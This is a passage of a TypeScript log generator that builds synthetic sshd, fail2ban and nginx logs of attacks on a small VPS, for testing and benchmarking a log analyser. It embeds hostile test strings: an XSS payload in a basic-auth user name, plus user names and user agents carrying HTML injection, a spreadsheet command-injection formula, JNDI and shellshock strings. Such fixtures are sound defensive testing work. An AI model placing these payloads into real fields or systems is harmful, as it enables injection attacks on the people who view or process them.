      let t = start + HOUR + rng.int(end - start - 2 * HOUR);
      const attempts = fast ? 8 + rng.int(12) : 3 + rng.int(3);
      for (let n = 0; n < attempts; n++) {
        const user = i === 0 && k === 0 && n === 2
          ? 'admin"><svg onload=alert(1)>'
          : rng.pick(users);
        at(t, host.ip, { path: "/admin/", agent, user, host: SITE, referrer: "-" }, true);
        t += fast ? 1500 + rng.int(4000) : 4 * MINUTE + rng.int(3 * MINUTE);
      }
    }
  }
}

// ---------------------------------------------------------------------------
// Building the sample set
// ---------------------------------------------------------------------------

/** Options shared by every mode. */
export interface ScenarioOptions {
  /** PRNG seed. @default {DEFAULT_SEED} */
  seed?: number;
  /** Country of the administrator's own addresses. @default "DE" */
  homeCountry?: string;
}

/** One file of the sample set, in memory. */
export interface SampleFile {
  /** Path relative to the sample directory (`auth.log.2.gz`, `nginx/access.log`). */
  name: string;
  /** Uncompressed content. */
  text: string;
  /** Number of lines (a traceback counts each of its lines). */
  lines: number;
  /** Time of the first line (ms, UTC). */
  first: number;
  /** Time of the last line (ms, UTC). */
  last: number;
  /** Written gzip-compressed. */
  gzip: boolean;
}

/** The ground truth of the sample, written to `truth.json`. */
export interface SampleTruth {
  /** PRNG seed of the sample. */
  seed: number;
  /** The administrator's country. */
  homeCountry: string;
  /** Time zone of every stamp in the sample. */
  timeZone: "UTC";
  /** First and last line over all files (ISO 8601). */
  period: { first: string; last: string };
  /** The UTC day without attacks (`YYYY-MM-DD`). */
  quietDay: string;
  /** {@linkcode TIMELINE} as ISO 8601. */
  timeline: Record<string, string>;
  /** Addresses the administrator logged in from (never banned). */
  adminIps: string[];
  /** The one address that was banned and later logged in with a key. */
  falsePositiveIp: string;
  /** Address whose ban triggered the mail-action traceback. */
  mailErrorIp?: string;
  /** Number of bans per jail. */
  bans: Record<JailName, number>;
  /** Every address in the sample with its country, network and role. */
  hosts: TruthHost[];
}

/** The whole sample set, before it is written. */
export interface SampleSet {
  /** The log files, oldest slice first per log. */
  files: SampleFile[];
  /** What happened (written to `truth.json`). */
  truth: SampleTruth;
}

function iso(ms: number): string {
  return new Date(Math.floor(ms / 1000) * 1000).toISOString().replace(".000Z", "Z");
}

function sliceLog(
  records: readonly LogRecord[],
  slices: readonly [name: string, from: number, to: number, gzip: boolean][],
): SampleFile[] {
  return slices.map(([name, from, to, gzip]) => {
    const part = records.filter((r) => r.t >= from && r.t < to);
    let lines = 0;
    for (const r of part) {
      lines++;
      for (let i = r.text.indexOf("\n"); i !== -1; i = r.text.indexOf("\n", i + 1)) lines++;
    }
    return {
      name,
      text: part.map((r) => r.text).join("\n") + (part.length > 0 ? "\n" : ""),
      lines,
      first: part.length > 0 ? part[0].t : NaN,
      last: part.length > 0 ? part[part.length - 1].t : NaN,
      gzip,
    };
  });
}

function checkCountry(homeCountry: string): string {
  const cc = homeCountry.toUpperCase();
  if (!/^[A-Z]{2}$/.test(cc)) {
    throw new TypeError(
      `Invalid --home-country "${homeCountry}": expected a two-letter country code such as DE`,
    );
  }
  if (!NETWORKS.some((n) => n.country === cc && n.kind === "isp")) {
    const known = [...new Set(NETWORKS.filter((n) => n.kind === "isp").map((n) => n.country))]
      .sort();
    throw new RangeError(
      `Unknown --home-country "${cc}": no residential networks for it; use one of ${
        known.join(", ")
      }`,
    );
  }
  return cc;
}

function checkSeed(seed: number): number {
  if (!Number.isSafeInteger(seed) || seed < 0) {
    throw new RangeError(`Invalid --seed ${seed}: expected a non-negative integer`);
  }
  return seed;
}

/**
 * Builds the sample set in memory (no file access). Same options, same bytes.
 *
 * @example
 * ```ts
 * import { buildSample } from "./generate_logs.ts";
 * const sample = buildSample({ seed: 1 });
 * sample.files.map((f) => f.name); // ["auth.log.2.gz", "auth.log.1", "auth.log", …]
 * ```
 */
export function buildSample(options: ScenarioOptions = {}): SampleSet {
  const seed = checkSeed(options.seed ?? DEFAULT_SEED);
  const homeCountry = checkCountry(options.homeCountry ?? DEFAULT_HOME_COUNTRY);
  const s = new SampleScenario(new Random(seed, "sample"), homeCountry);
  planAdmin(s);
  planSshAttackers(s);
  planCron(s);
  planFail2ban(s);
  planWeb(s);
  s.execute();

  const r1 = TIMELINE.firstRotation;
  const r2 = TIMELINE.secondRotation;
  const files = [
    ...sliceLog(s.auth.sorted(), [
      ["auth.log.2.gz", -Infinity, r1, true],
      ["auth.log.1", r1, r2, false],
      ["auth.log", r2, Infinity, false],
    ]),
    ...sliceLog(s.fail2ban.sorted(), [
      ["fail2ban.log.2.gz", -Infinity, r1, true],
      ["fail2ban.log.1", r1, r2, false],
      ["fail2ban.log", r2, Infinity, false],
    ]),
    ...sliceLog(s.access.sorted(), [
      ["nginx/access.log.1", -Infinity, r2, false],
      ["nginx/access.log", r2, Infinity, false],
    ]),
    ...sliceLog(s.error.sorted(), [
      ["nginx/error.log.1", -Infinity, r2, false],
      ["nginx/error.log", r2, Infinity, false],
    ]),
  ];
  const bans = { sshd: 0, "nginx-http-auth": 0 };
  for (const ban of s.sim.bans) bans[ban.jail]++;
  const timeline: Record<string, string> = {};
  for (const [key, value] of Object.entries(TIMELINE)) timeline[key] = iso(value);
  const firsts = files.map((f) => f.first).filter((t) => !Number.isNaN(t));
  const lasts = files.map((f) => f.last).filter((t) => !Number.isNaN(t));
  const truth: SampleTruth = {
    seed,
    homeCountry,
    timeZone: "UTC",
    period: { first: iso(Math.min(...firsts)), last: iso(Math.max(...lasts)) },
    quietDay: QUIET_DAY,
    timeline,
    adminIps: s.facts.adminIps as string[],
    falsePositiveIp: s.facts.falsePositiveIp as string,
    ...(s.facts.mailErrorIp === undefined ? {} : { mailErrorIp: s.facts.mailErrorIp as string }),
    bans,
    hosts: [...s.truth.values()],
  };
  return { files, truth };
}

// ---------------------------------------------------------------------------
// Benchmark streams
// ---------------------------------------------------------------------------

/** Walker's alias table: O(1) weighted sampling. */
class AliasTable {
  private readonly prob: Float64Array;
  private readonly alias: Int32Array;

  constructor(weights: readonly number[]) {
    const n = weights.length;
    this.prob = new Float64Array(n);
    this.alias = new Int32Array(n);
    let total = 0;
    for (const w of weights) total += w;
    const scaled = weights.map((w) => (w * n) / total);
    const small: number[] = [];
    const large: number[] = [];
    scaled.forEach((p, i) => (p < 1 ? small : large).push(i));
    while (small.length > 0 && large.length > 0) {
      const s = small.pop()!;
      const l = large.pop()!;
      this.prob[s] = scaled[s];
      this.alias[s] = l;
      scaled[l] = scaled[l] + scaled[s] - 1;
      (scaled[l] < 1 ? small : large).push(l);
    }
    for (const i of [...small, ...large]) this.prob[i] = 1;
  }

  sample(rng: Random): number {
    const i = rng.int(this.prob.length);
    return rng.float() < this.prob[i] ? i : this.alias[i];
  }
}

/** Maps a fraction of the file (0…1) to a time in [start, end), following an intensity curve. */
class TimeMap {
  private readonly cumulative: Float64Array;
  private readonly spans: Float64Array;

  constructor(private readonly start: number, end: number, intensity: (t: number) => number) {
    const hours = Math.ceil((end - start) / HOUR);
    this.cumulative = new Float64Array(hours + 1);
    this.spans = new Float64Array(hours);
    for (let h = 0; h < hours; h++) {
      const from = start + h * HOUR;
      this.spans[h] = Math.min(HOUR, end - from);
      this.cumulative[h + 1] = this.cumulative[h] +
        intensity(from + this.spans[h] / 2) * (this.spans[h] / HOUR);
    }
  }

  at(fraction: number): number {
    const c = this.cumulative;
    const target = Math.min(Math.max(fraction, 0), 0.999999) * c[c.length - 1];
    let lo = 0;
    let hi = c.length - 1;
    while (hi - lo > 1) {
      const mid = (lo + hi) >> 1;
      if (c[mid] <= target) lo = mid;
      else hi = mid;
    }
    const width = c[lo + 1] - c[lo];
    const within = width > 0 ? ((target - c[lo]) / width) * this.spans[lo] : 0;
    return Math.floor(this.start + lo * HOUR + within);
  }
}

/** Number of distinct attackers for a benchmark file of `lines` lines. */
export function benchPopulationSize(lines: number): number {
  return Math.max(40, Math.round(6000 * Math.pow(lines / 1e6, 0.9)));
}

/** Attackers for the benchmark: same networks and styles as the sample, heavy-tailed activity. */
function benchPopulation(rng: Random, size: number, homeCountry: string) {
  const book = new AddressBook(homeCountry);
  const dictionaries = Array.from({ length: 40 }, () => dictionaryFor(rng));
  const v6 = PREFIXES.filter((p) => p.v6 && p.net.name !== "Deutsche Telekom");
  const attackers: SshAttacker[] = [];
  const weights: number[] = [];
  for (let i = 0; i < size; i++) {
    let host: Host | undefined;
    if (i > 0 && rng.chance(0.1)) {
      const anchor = attackers[rng.int(attackers.length)].host;
      if (!anchor.ip.includes(":")) host = book.tryNeighbour(anchor, rng);
    } else if (rng.chance(0.03)) host = book.tryTake(rng.pick(v6), rng);
    host ??= book.attacker(rng);
    const style = rng.weighted(STYLES, STYLE_WEIGHTS);
    const a = newAttacker(host, style, style === "root" ? ["root"] : rng.pick(dictionaries), rng);
    attackers.push(a);
    weights.push(Math.min(size / 2, rng.pareto(1, 1.1)) * (style === "kex" ? 0.3 : 1));
  }
  return { attackers, table: new AliasTable(weights) };
}

const CHUNK_CHARS = 1 << 20;

/**
 * Accumulates lines in a string and writes them in ~1 MiB chunks through two
 * reused buffers: one chunk is encoded while the previous one is being
 * written, so generating and writing overlap.
 */
class ChunkWriter {
  lines = 0;
  bytes = 0;
  private chunk = "";
  private readonly buffers = [
    new Uint8Array(4 * CHUNK_CHARS + 65536),
    new Uint8Array(4 * CHUNK_CHARS + 65536),
  ];
  private current = 0;
  private writing: Promise<void> = Promise.resolve();
  private readonly encoder = new TextEncoder();

  constructor(private readonly file: Deno.FsFile, readonly limit: number) {}

  get full(): boolean {
    return this.lines >= this.limit;
  }

  /** True when a chunk is ready: call {@linkcode flush} (and await it) soon. */
  get ready(): boolean {
    return this.chunk.length >= CHUNK_CHARS;
  }

  /** Adds one line (with its newline); ignored once `limit` lines were written. */
  add(line: string): void {
    if (this.lines >= this.limit) return;
    this.chunk += line;
    this.lines++;
  }

  /** Encodes the pending text and starts writing it once the previous write is done. */
  async flush(): Promise<void> {
    if (this.chunk.length === 0) return;
    const buffer = this.buffers[this.current];
    this.current = 1 - this.current;
    const { written } = this.encoder.encodeInto(this.chunk, buffer);
    this.chunk = "";
    this.bytes += written;
    await this.writing;
    this.writing = this.writeAll(buffer.subarray(0, written));
  }

  /** Writes what is left and waits for every write. */
  async close(): Promise<void> {
    await this.flush();
    await this.writing;
  }

  private async writeAll(data: Uint8Array): Promise<void> {
    let offset = 0;
    while (offset < data.length) offset += await this.file.write(data.subarray(offset));
  }
}

/** Streams an auth.log of exactly `writer.limit` lines. */
async function streamAuth(writer: ChunkWriter, seed: number, homeCountry: string): Promise<number> {
  const rng = new Random(seed, "bench-auth");
  const lines = writer.limit;
  const { attackers, table } = benchPopulation(
    rng.fork("population"),
    benchPopulationSize(lines),
    homeCountry,
  );
  const period = benchPeriod(lines);
  const map = new TimeMap(period.start, period.end - 2 * MINUTE, attackIntensity);
  const stamp = new StampCache(syslogStamp);
  const head = ` ${SAMPLE_HOST} `;
  const pids = new PidCounter(1100, rng.fork("pids"));
  const seen = new Uint8Array(attackers.length);
  let lastT = period.start;
  const write = (t: number, text: string) => {
    if (t < lastT) t = lastT;
    else lastT = t;
    writer.add(stamp.get(t) + head + text);
  };
  // Lines far in the future (a login timeout, a session close) wait here so that
  // the file stays in time order without pushing every later line forward.
  const later = new MinHeap<{ t: number; text: string }>();
  let now = period.start;
  const out: AuthOut = {
    line(t, tag, message) {
      if (t > now + 10 * SECOND) later.push({ t, text: tag + ": " + message + "\n" });
      else write(t, tag + ": " + message + "\n");
    },
    failure() {},
  };
  const admin = new AddressBook(homeCountry).take(
    rng.pick(
      PREFIXES.filter((p) => !p.v6 && p.net.country === homeCountry && p.net.kind === "isp"),
    ),
    rng,
  );
  const key: AdminKey = { type: "ED25519", fingerprint: fingerprint(rng) };
  let nextCron = Math.floor(period.start / HOUR) * HOUR + 17 * MINUTE + SECOND;
  let nextAdmin = period.start + 2 * HOUR + rng.int(12 * HOUR);
  let session = 1;
  while (!writer.full) {
    // The session starts where the file's position says; its lines are kept in
    // order by `out.line`, so busy periods squeeze sessions instead of drifting.
    const t = map.at(writer.lines / lines);
    now = t;
    while (later.size > 0 && later.peek()!.t <= t) {
      const next = later.pop()!;
      write(next.t, next.text);
    }
    while (nextCron <= t && !writer.full) {
      const tag = `CRON[${pids.take(1)}]`;
      out.line(
        nextCron,
        tag,
        "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
      );
      out.line(nextCron + 400, tag, "pam_unix(cron:session): session closed for user root");
      nextCron += HOUR;
    }
    if (nextAdmin <= t && !writer.full) {
      const tag = `${sshProgram(t)}[${pids.take()}]`;
      const port = randomPort(rng);
      out.line(
        t,
        tag,
        `Accepted publickey for admin from ${admin.ip} port ${port} ssh2: ${key.type} ${key.fingerprint}`,
      );
      out.line(
        t,
        tag,
        "pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)",
      );
      out.line(t, "systemd-logind[612]", `New session ${session} of user admin.`);
      out.line(t + 30 * SECOND, tag, "pam_unix(sshd:session): session closed for user admin");
      out.line(t + 30 * SECOND, "systemd-logind[612]", `Removed session ${session++}.`);
      nextAdmin += 8 * HOUR + rng.int(16 * HOUR);
      continue;
    }
    const index = table.sample(rng);
    seen[index] = 1;
    const tag = `${sshProgram(t)}[${pids.take()}]`;
    attackSession(out, rng, attackers[index], t, tag, t >= TIMELINE.rebootStart);
    if (writer.ready) await writer.flush();
  }
  let unique = 0;
  for (const x of seen) unique += x;
  return unique;
}

/** Streams a fail2ban.log of exactly `writer.limit` lines (sshd jail). */
async function streamFail2ban(
  writer: ChunkWriter,
  seed: number,
  homeCountry: string,
): Promise<number> {
  const rng = new Random(seed, "bench-fail2ban");
  const lines = writer.limit;
  const { attackers, table } = benchPopulation(
    rng.fork("population"),
    benchPopulationSize(lines),
    homeCountry,
  );
  const period = benchPeriod(lines);
  const map = new TimeMap(period.start, period.end - 2 * MINUTE, attackIntensity);
  const format = new Fail2banFormatter();
  const sim: Fail2banSim = new Fail2banSim(
    (t, logger, level, message) =>
      writer.add(format.line(t, logger, sim.pid, level, message) + "\n"),
    rng.fork("fail2ban"),
  );
  sim.start(period.start, 812, "1.1.0", ["sshd"], true);
  const seen = new Uint8Array(attackers.length);
  let skew = 0;
  let misses = 0;
  while (!writer.full) {
    const t = map.at(writer.lines / lines) + skew;
    sim.advance(t);
    const index = table.sample(rng);
    const a = attackers[index];
    if (sim.isBlocked("sshd", a.host.ip, t) || a.style === "kex" || a.style === "keyprobe") {
      // no Found line from this connection; if that goes on, let the clock move so bans expire
      if (++misses > 50) {
        skew += SECOND;
        misses = 0;
      }
      continue;
    }
    misses = 0;
    seen[index] = 1;
    const ip = a.host.ip;
    attackFailures(rng, a, t, (tf) => sim.failure("sshd", ip, tf));
    if (writer.ready) await writer.flush();
  }
  let unique = 0;
  for (const x of seen) unique += x;
  return unique;
}

/** Streams an nginx access.log of exactly `writer.limit` lines. */
async function streamAccess(
  writer: ChunkWriter,
  seed: number,
  homeCountry: string,
): Promise<number> {
  const rng = new Random(seed, "bench-access");
  const lines = writer.limit;
  const book = new AddressBook(homeCountry);
  const visitors = Array.from(
    { length: Math.max(30, Math.min(200_000, Math.round(lines / 25))) },
    () => book.visitor(rng),
  );
  const scanners = Array.from(
    { length: Math.max(10, Math.round(benchPopulationSize(lines) / 2)) },
    () => book.attacker(rng, rng.chance(0.8) ? ["hosting"] : ["isp"]),
  );
  const scannerTable = new AliasTable(scanners.map(() => rng.pareto(1, 1.2)));
  const scannerAgents = scanners.map(() => rng.pick(SCANNER_AGENTS));
  const seen = new Set<string>();
  const period = benchPeriod(lines);
  const map = new TimeMap(
    period.start,
    period.end - 2 * MINUTE,
    (t) => visitIntensity(t) + attackIntensity(t) * 0.6,
  );
  let lastT = period.start;
  let connection = 0;
  const clock = new StampCache(nginxAccessStamp, " +0000");
  const o: WebOut = {
    access(_t, line) {
      writer.add(line + "\n");
    },
    stamp: (t) => clock.get(t < lastT ? lastT : (lastT = t)),
    error() {},
    authFailure() {},
    connection() {
      return ++connection;
    },
  };
  const kinds = [
    "wordpress",
    "secrets",
    "phpmyadmin",
    "exploit",
    "tls",
    "proxy",
    "garbage",
    "probe",
  ];
  const kindWeights = [3, 3, 1.5, 2.5, 1.5, 1, 1.5, 3];
  while (!writer.full) {
    let t = map.at(writer.lines / lines);
    const x = rng.float();
    if (x < 0.55) {
      const v = rng.pick(visitors);
      seen.add(v.ip);
      const agent = rng.pick(BROWSERS);
      const page = rng.chance(0.4) ? "/" : rng.pick(POSTS);
      const referrer = rng.pick(REFERRERS);
      webRequest(o, t, v.ip, { path: page, agent, referrer });
      for (const asset of ASSETS) {
        webRequest(o, t + 300, v.ip, { path: asset, agent, referrer: `https://${SITE}${page}` });
      }
    } else if (x < 0.65) {
      webRequest(o, t, "66.249.66." + (1 + rng.int(200)), {
        path: rng.pick(["/robots.txt", "/sitemap.xml", ...POSTS]),
        agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      });
    } else {
      const i = scannerTable.sample(rng);
      const ip = scanners[i].ip;
      seen.add(ip);
      for (const r of scanRequests(rng.weighted(kinds, kindWeights), rng, ip, scannerAgents[i])) {
        webRequest(o, t, ip, r);
        t += 100 + rng.int(1500);
      }
    }
    if (writer.ready) await writer.flush();
  }
  return seen.size;
}

// ---------------------------------------------------------------------------
// Writing files
// ---------------------------------------------------------------------------

/** What was written, for the report on stderr. */
export interface WrittenFile {
  /** Path as given (sample directory + name, or `--out`). */
  path: string;
  /** Lines written. */
  lines: number;
  /** Bytes written (compressed size for `.gz`). */
  bytes: number;
  /** Distinct client addresses in the file (benchmark modes). */
  uniqueIps?: number;
  /** Wall time of the whole run. */
  seconds: number;
}

/** Options of {@linkcode generateLogs}: exactly one of `sample`, `authLines`, `fail2banLines`, `accessLines`. */
export interface GenerateOptions extends ScenarioOptions {
  /** Write the sample set into this directory. */
  sample?: string;
  /** Write an auth.log of exactly this many lines to `out`. */
  authLines?: number;
  /** Write a fail2ban.log of exactly this many lines to `out`. */
  fail2banLines?: number;
  /** Write an nginx access.log of exactly this many lines to `out`. */
  accessLines?: number;
  /** Output file of the benchmark modes. */
  out?: string;
}

async function gzip(data: Uint8Array<ArrayBuffer>): Promise<Uint8Array<ArrayBuffer>> {
  const stream = new Blob([data]).stream().pipeThrough(new CompressionStream("gzip"));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

/** Hex SHA-256 of bytes. */
export async function sha256Hex(data: Uint8Array<ArrayBuffer>): Promise<string> {
  const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", data));
  return Array.from(digest, (b) => b.toString(16).padStart(2, "0")).join("");
}

/** One entry of `MANIFEST.json`. */
export interface ManifestEntry {
  /** Time of the first line (ISO 8601, UTC, seconds). */
  first: string;
  /** Time of the last line (ISO 8601, UTC, seconds); the file's mtime. */
  last: string;
  /** Number of lines (of the uncompressed content). */
  lines: number;
  /** Size of the file as stored. */
  bytes: number;
  /** SHA-256 of the file as stored. */
  sha256: string;
  /** Gzip files: size of the uncompressed content. */
  contentBytes?: number;
  /** Gzip files: SHA-256 of the uncompressed content. */
  contentSha256?: string;
}

/** `MANIFEST.json` of the sample directory. */
export interface Manifest {
  /** The script that wrote the sample. */
  generator: string;
  /** The command that reproduces it. */
  command: string;
  /** PRNG seed used. */
  seed: number;
  /** The administrator's country used. */
  homeCountry: string;
  /** Time zone of every stamp. */
  timeZone: "UTC";
  /** Per file (path relative to the sample directory). */
  files: Record<string, ManifestEntry>;
}

/** Computes the manifest of a sample set (and the bytes to store per file). */
export async function sampleManifest(
  sample: SampleSet,
): Promise<{ manifest: Manifest; bytes: Map<string, Uint8Array<ArrayBuffer>> }> {
  const encoder = new TextEncoder();
  const files: Record<string, ManifestEntry> = {};
  const bytes = new Map<string, Uint8Array<ArrayBuffer>>();
  for (const f of sample.files) {
    const content = encoder.encode(f.text);
    const stored = f.gzip ? await gzip(content) : content;
    bytes.set(f.name, stored);
    files[f.name] = {
      first: iso(f.first),
      last: iso(f.last),
      lines: f.lines,
      bytes: stored.length,
      sha256: await sha256Hex(stored),
      ...(f.gzip ? { contentBytes: content.length, contentSha256: await sha256Hex(content) } : {}),
    };
  }
  const { seed, homeCountry } = sample.truth;
  const options = `${seed === DEFAULT_SEED ? "" : ` --seed ${seed}`}${
    homeCountry === DEFAULT_HOME_COUNTRY ? "" : ` --home-country ${homeCountry}`
  }`;
  return {
    manifest: {
      generator: "tools/generate_logs.ts",
      command: `deno run -A tools/generate_logs.ts --sample data/sample${options}`,
      seed,
      homeCountry,
      timeZone: "UTC",
      files,
    },
    bytes,
  };
}

function countBy<T>(items: readonly T[], key: (item: T) => string): Map<string, number> {
  const out = new Map<string, number>();
  for (const item of items) out.set(key(item), (out.get(key(item)) ?? 0) + 1);
  return out;
}

function sampleReadme(sample: SampleSet, manifest: Manifest): string {
  const t = sample.truth;
  const attackers = t.hosts.filter((h) =>
    !["admin", "visitor", "crawler", "monitor"].includes(h.role)
  );
  const countries = countBy(attackers, (h) => h.country);
  const networks = countBy(attackers, (h) => `${h.country} ${h.network}`);
  const rows = Object.entries(manifest.files).map(([name, e]) =>
    `| \`${name}\` | ${e.first} | ${e.last} | ${e.lines} | ${e.bytes} |`
  );
  return `# Sample logs

Synthetic but realistic logs of one small Debian VPS (host \`${SAMPLE_HOST}\`, address
\`${SERVER_IP}\`, web site \`${SITE}\`) over three weeks, **${t.period.first} – ${t.period.last}**.
The server runs in **UTC**, so every time stamp in these files is UTC.

They were written by the seeded generator, byte for byte reproducible:

\`\`\`sh
${manifest.command}
\`\`\`

Nothing here comes from a real server. Attacker addresses are taken from real public
prefixes (Chinese telecom ranges known for SSH brute force, cloud and hosting ranges,
residential ISPs) so that geolocation gives a realistic spread; the server itself and the
site use documentation names. \`truth.json\` lists every address with the country and
network it was drawn from and its role; \`MANIFEST.json\` has the first/last time stamp,
line count, size and SHA-256 of every file (git does not keep file modification times;
the generator sets each file's mtime to its last line).

## Files

| file | first line | last line | lines | bytes |
| --- | --- | --- | --- | --- |
${rows.join("\n")}

Rotation is weekly (logrotate with \`delaycompress\`): the highest number is the oldest,
\`.1\` is uncompressed, \`.2.gz\` compressed. \`auth.log.2.gz\` starts at the first boot
(${t.timeline.provisioned}); the web logs start when nginx was installed
(${t.timeline.nginxInstalled}).

## What happens

- **auth.log** (rsyslog, \`Mmm dd HH:MM:SS ${SAMPLE_HOST} prog[pid]: …\`): sshd brute force from
  ${attackers.length} addresses in ${countries.size} countries and ${networks.size} networks
  (plus IPv6 attackers), as realistic per-connection sequences: \`Invalid user\`, PAM
  \`authentication failure\`, \`Failed password\`, \`message repeated N times\`, \`maximum
  authentication attempts exceeded\`, \`Connection closed/Disconnected … [preauth]\`,
  \`Received disconnect … 11: Bye Bye\`, key-only probes, key-exchange scanners (\`Did not
  receive identification string\`, \`Unable to negotiate\`, \`Bad protocol version
  identification '\\003'\`), \`reverse mapping checking getaddrinfo … POSSIBLE BREAK-IN
  ATTEMPT!\`. Activity is heavy-tailed: a few addresses make thousands of attempts (one
  of them a key-only prober that fail2ban never bans, one a slow dictionary attack that
  stays under maxretry), most make a handful; several /24 groups (e.g. 218.92.0.0/24,
  61.177.172.0/24, 2.57.122.0/24) hold many attackers; four distributed dictionary
  campaigns use hundreds of addresses a few times each. CRON, systemd-logind and sudo lines
  are noise. After the upgrade reboot on ${t.timeline.rebootStart.slice(0, 10)} per-connection lines
  come from \`sshd-session\` (OpenSSH ≥ 9.8) instead of \`sshd\`.
- **The administrator** (home country ${t.homeCountry}) logs in with \`Accepted publickey\`
  from ${t.adminIps.length} addresses: ${t.adminIps.join(", ")}.
- **The false positive**: ${t.falsePositiveIp} (the administrator's phone) fails passwords, is
  banned by fail2ban, and logs in with a key after the Unban.
- **Quiet day**: ${t.quietDay} has no attack at all (provider network outage
  ${t.timeline.outageStart} – ${t.timeline.outageEnd}; only cron runs), so daily series show an
  empty day.
- **Hostile text**: user names \`<img src=x onerror=alert(1)>\`, \`</script>\`,
  \`=cmd|' /C calc'!A0\`, a name with a space and an empty name; web user agents with
  \`</script>\`, \`\${jndi:…}\` and shellshock; a basic-auth user name with \`"><svg …>\`.
- **fail2ban.log** (fail2ban 1.x format, consistent with the logs above): jail \`sshd\`
  (maxretry 5, findtime 10m, bantime 10m, \`bantime.increment\` doubling for repeat
  offenders within a day up to 1h, logged as \`Increase Ban\`) and, from
  ${t.timeline.nginxJailAdded}, \`nginx-http-auth\` on nginx's error.log. One \`Found\` per matching
  line (\`Invalid user\`, \`Failed …\`, \`message repeated …\` counts once, \`maximum
  authentication attempts\`), \`Ban\` after 5 within 10 minutes, \`Unban\` when the ban
  ends, \`already banned\`, a restart on ${t.timeline.rebootStop.slice(0, 10)} with \`Restore Ban\`,
  \`rollover performed\` after each rotation and one multi-line mail-action traceback.
  Bans: ${t.bans.sshd} sshd, ${t.bans["nginx-http-auth"]} nginx-http-auth.
- **nginx** (combined access log, error log): readers, crawlers, a feed reader and an
  uptime monitor; scanners (wp-login.php, .env, phpMyAdmin, exploit paths, TLS and
  \`CONNECT\` garbage, \`zgrab\`), 403 "access forbidden by rule" for dot files, a few
  directory brute-force floods throttled by \`limit_req\` (503), and basic-auth guessing on
  \`/admin/\`.

## Checking the countries

The address table in the generator was checked against DB-IP Lite (country) and the
ip-location-db ASN table (operator). The country of each address as drawn is in
\`truth.json\`; a geo lookup may still differ for a few addresses.
`;
}

/** Writes the sample set into `dir` and returns what was written. */
async function writeSample(dir: string, options: ScenarioOptions): Promise<WrittenFile[]> {
  const started = performance.now();
  const sample = buildSample(options);
  const { manifest, bytes } = await sampleManifest(sample);
  await Deno.mkdir(`${dir}/nginx`, { recursive: true });
  const written: WrittenFile[] = [];
  for (const f of sample.files) {
    const path = `${dir}/${f.name}`;
    const data = bytes.get(f.name)!;
    await Deno.writeFile(path, data);
    const mtime = new Date(Math.floor(f.last / 1000) * 1000);
    await Deno.utime(path, mtime, mtime);
    written.push({ path, lines: f.lines, bytes: data.length, seconds: 0 });
  }
  const encoder = new TextEncoder();
  const extras: [string, string][] = [
    ["MANIFEST.json", JSON.stringify(manifest, null, 2) + "\n"],
    ["truth.json", JSON.stringify(sample.truth, null, 1) + "\n"],
    ["README.md", sampleReadme(sample, manifest)],
  ];
  for (const [name, text] of extras) {
    const data = encoder.encode(text);
    await Deno.writeFile(`${dir}/${name}`, data);
    written.push({
      path: `${dir}/${name}`,
      lines: text.split("\n").length - 1,
      bytes: data.length,
      seconds: 0,
    });
  }
  const seconds = (performance.now() - started) / 1000;
  for (const w of written) w.seconds = seconds;
  return written;
}

function checkLines(name: string, value: number | undefined): number {
  if (value === undefined || !Number.isSafeInteger(value) || value < 1) {
    throw new RangeError(`Invalid --${name} ${value}: expected a positive integer number of lines`);
  }
  return value;
}

/**
 * Generates logs: the sample set (`sample`) or one benchmark file
 * (`authLines`, `fail2banLines` or `accessLines` with `out`).
 *
 * @example
 * ```ts
 * import { generateLogs } from "./generate_logs.ts";
 * const [file] = await generateLogs({ authLines: 1000, out: "/tmp/auth.log" });
 * file.lines; // 1000
 * ```
 */
export async function generateLogs(options: GenerateOptions): Promise<WrittenFile[]> {
  const modes = [
    options.sample !== undefined,
    options.authLines !== undefined,
    options.fail2banLines !== undefined,
    options.accessLines !== undefined,
  ].filter(Boolean).length;
  if (modes !== 1) {
    throw new TypeError(
      "Choose exactly one of --sample DIR, --auth-lines N, --fail2ban-lines N, --access-lines N",
    );
  }
  const seed = checkSeed(options.seed ?? DEFAULT_SEED);
  const homeCountry = checkCountry(options.homeCountry ?? DEFAULT_HOME_COUNTRY);
  if (options.sample !== undefined) return await writeSample(options.sample, { seed, homeCountry });
  if (options.out === undefined) {
    throw new TypeError(
      "--out PATH is required with --auth-lines, --fail2ban-lines and --access-lines",
    );
  }
  const [name, lines, stream] = options.authLines !== undefined
    ? ["auth-lines", options.authLines, streamAuth] as const
    : options.fail2banLines !== undefined
    ? ["fail2ban-lines", options.fail2banLines, streamFail2ban] as const
    : ["access-lines", options.accessLines, streamAccess] as const;
  const limit = checkLines(name, lines);
  const started = performance.now();
  const file = await Deno.open(options.out, { write: true, create: true, truncate: true });
  try {
    const writer = new ChunkWriter(file, limit);
    const uniqueIps = await stream(writer, seed, homeCountry);
    await writer.close();
    return [{
      path: options.out,
      lines: writer.lines,
      bytes: writer.bytes,
      uniqueIps,
      seconds: (performance.now() - started) / 1000,
    }];
  } finally {
    file.close();
  }
}

// ---------------------------------------------------------------------------
// Command line
// ---------------------------------------------------------------------------

const USAGE = `Usage:
  deno run -A tools/generate_logs.ts --sample DIR [--seed N] [--home-country CC]
  deno run -A tools/generate_logs.ts --auth-lines N --out PATH [--seed N]
  deno run -A tools/generate_logs.ts --fail2ban-lines N --out PATH [--seed N]
  deno run -A tools/generate_logs.ts --access-lines N --out PATH [--seed N]

Writes realistic sshd/fail2ban/nginx logs from a seeded PRNG (same seed, same bytes).
  --sample DIR        the rotated sample set, MANIFEST.json, truth.json and README.md
  --auth-lines N      one auth.log of exactly N lines (benchmark)
  --fail2ban-lines N  one fail2ban.log of exactly N lines (benchmark)
  --access-lines N    one nginx access.log of exactly N lines (benchmark)
  --out PATH          output file of the benchmark modes
  --seed N            PRNG seed (default ${DEFAULT_SEED})
  --home-country CC   the administrator's country (default ${DEFAULT_HOME_COUNTRY})
`;

function parseCount(name: string, text: string | undefined): number | undefined {
  if (text === undefined) return undefined;
  const cleaned = text.replaceAll("_", "");
  const match = /^(\d+(?:\.\d+)?)([kKmM]?)$/.exec(cleaned);
  if (match === null) {
    throw new RangeError(`Invalid --${name} "${text}": expected a number such as 1000000 or 1M`);
  }
  const unit = match[2].toLowerCase() === "m" ? 1e6 : match[2].toLowerCase() === "k" ? 1e3 : 1;
